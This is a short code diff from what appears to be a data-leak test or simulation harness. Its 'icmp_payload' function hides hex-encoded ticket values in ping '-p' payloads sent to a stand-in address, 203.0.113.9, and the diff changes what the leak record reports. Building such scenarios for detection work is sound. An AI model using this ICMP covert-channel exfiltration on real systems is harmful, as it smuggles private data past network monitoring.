@@ -114,4 +114,4 @@ def icmp_payload(net, record):
         # `ping -p` repeats up to 16 bytes; the blank keeps one number apart from the next.
         net.office_do("ping", "-q", "-c", "1", "-s", "52", "-p", f" {row['ticket']} to".encode().hex(), "203.0.113.9")
     counts = {"email": 0, "ticket": 30, "phone": 0}
-    return Facts().leak([], ["icmp"], app_proto="icmp", port=None, values=counts, within="host")
+    return Facts().leak(table, ["icmp"], app_proto="icmp", port=None, values=counts, within="host")
